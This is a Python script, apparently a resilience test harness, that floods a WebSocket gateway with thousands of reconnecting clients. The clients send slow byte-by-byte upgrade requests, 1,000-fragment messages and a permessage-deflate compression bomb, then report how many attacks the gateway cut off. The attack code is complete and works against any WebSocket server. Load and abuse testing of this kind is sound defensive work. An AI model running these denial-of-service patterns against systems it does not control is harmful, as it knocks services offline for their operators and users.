#!/usr/bin/env python3
"""Many clients that do harm as far as the protocol lets them, a third of each kind:

  handshakes  the request of an upgrade, one byte a second, until the gateway has had enough
  fragments   a message in 1,000 fragments of one byte
  bombs       4 MiB of zeros as a compressed message of 4 KiB

Whoever is closed comes back after --pace seconds. Prints "ready" when all have been connected once;
when its standard input ends, a line of JSON: per kind, how many attacks were ended by the gateway and
how many were not taken up.

usage: attackers.py ADDRESS:PORT [--attackers N] [--cpus LIST] [--pace SECONDS]
"""

import argparse
import collections
import errno
import heapq
import itertools
import json
import os
import random
import resource
import select
import socket
import struct
import sys
import time
import zlib

REQUEST = (b"GET /sub HTTP/1.1\r\nHost: attackers\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
           b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
DRIP_S = 1.0
FIN, BINARY, RSV1, MASKED = 0x80, 2, 0x40, 0x80


def frame(first, payload):
    """With a mask of zeros."""
    head = (struct.pack(">BB", first, MASKED | len(payload)) if len(payload) < 126
            else struct.pack(">BBH", first, MASKED | 126, len(payload)))
    return head + bytes(4) + payload


def fragments():
    return frame(BINARY, b"x") + frame(0, b"x") * 999


def bomb():
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = compressor.compress(bytes(4 << 20)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return frame(FIN | RSV1 | BINARY, payload[:-4])


# What is sent at once; None: the request, byte by byte.
KINDS = {"handshakes": None, "fragments": REQUEST + fragments(), "bombs": REQUEST + bomb()}


class Attacker:
    def __init__(self, kind):
        self.kind = kind
        self.socket = None
        self.connected = False
        self.sent = 0


class Attack:
    def __init__(self, address, count, pace):
        self.address = address
        self.pace = pace
        self.poll = select.epoll()
        self.timers = []  # (when, number, what, attacker, its socket at that time)
        self.numbers = itertools.count()
        self.by_fd = {}
        self.strangers = count  # that have never been connected
        self.known = set()
        self.ended = collections.Counter()
        self.not_taken = collections.Counter()
        draw = random.Random(1)
        for number in range(count):
            attacker = Attacker(list(KINDS)[number % len(KINDS)])
            self.at(draw.random() * pace, self.connect, attacker)

    def at(self, delay, what, attacker):
        when = time.monotonic() + delay
        heapq.heappush(self.timers, (when, next(self.numbers), what, attacker, attacker.socket))

    def connect(self, attacker):
        attacker.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        attacker.connected = False
        attacker.sent = 0
        error = attacker.socket.connect_ex(self.address)
        if error not in (0, errno.EINPROGRESS):
            self.leave(attacker, self.not_taken)
            return
        self.by_fd[attacker.socket.fileno()] = attacker
        self.poll.register(attacker.socket, select.EPOLLOUT | select.EPOLLIN)

    def leave(self, attacker, counter):
        counter[attacker.kind] += 1
        self.by_fd.pop(attacker.socket.fileno(), None)
        attacker.socket.close()
        attacker.socket = None
        self.at(self.pace, self.connect, attacker)

    def begin(self, attacker):
        attacker.connected = True
        if attacker not in self.known:
            self.known.add(attacker)
            self.strangers -= 1
            if self.strangers == 0:
                print("ready", flush=True)
        self.poll.modify(attacker.socket, select.EPOLLIN)
        if KINDS[attacker.kind] is None:
            self.drip(attacker)
        else:
            self.send(attacker, KINDS[attacker.kind])

    def drip(self, attacker):
        self.send(attacker, REQUEST[attacker.sent:attacker.sent + 1])
        attacker.sent += 1
        self.at(DRIP_S, self.drip, attacker)

    def send(self, attacker, data):
        try:
            attacker.socket.send(data)
        except OSError:
            pass  # the gateway has closed: it is read next

    def hear(self, attacker):
        try:
            heard = attacker.socket.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            heard = b""
        if not heard:
            self.leave(attacker, self.ended if attacker.connected else self.not_taken)

    def run(self, until):
        self.poll.register(until, select.EPOLLIN)
        while True:
            now = time.monotonic()
            while self.timers and self.timers[0][0] <= now:
                _, _, what, attacker, of = heapq.heappop(self.timers)
                if attacker.socket is of:
                    what(attacker)
            wait = min(self.timers[0][0] - now, 1) if self.timers else 1
            for fd, events in self.poll.poll(max(wait, 0)):
                if fd == until:
                    return
                attacker = self.by_fd[fd]
                if not attacker.connected and events == select.EPOLLOUT:
                    self.begin(attacker)
                else:
                    self.hear(attacker)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("address")
    parser.add_argument("--attackers", type=int, default=10000)
    parser.add_argument("--cpus", type=lambda text: {int(each) for each in text.split(",")})
    parser.add_argument("--pace", type=float, default=5.0)
    options = parser.parse_args()
    if options.cpus:
        os.sched_setaffinity(0, options.cpus)
    os.nice(19)  # what is measured is not how the machine is shared
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, port = options.address.rsplit(":", 1)
    attack = Attack((host, int(port)), options.attackers, options.pace)
    attack.run(sys.stdin.fileno())
    print(json.dumps({"ended": attack.ended, "not_taken": attack.not_taken}))


if __name__ == "__main__":
    main()
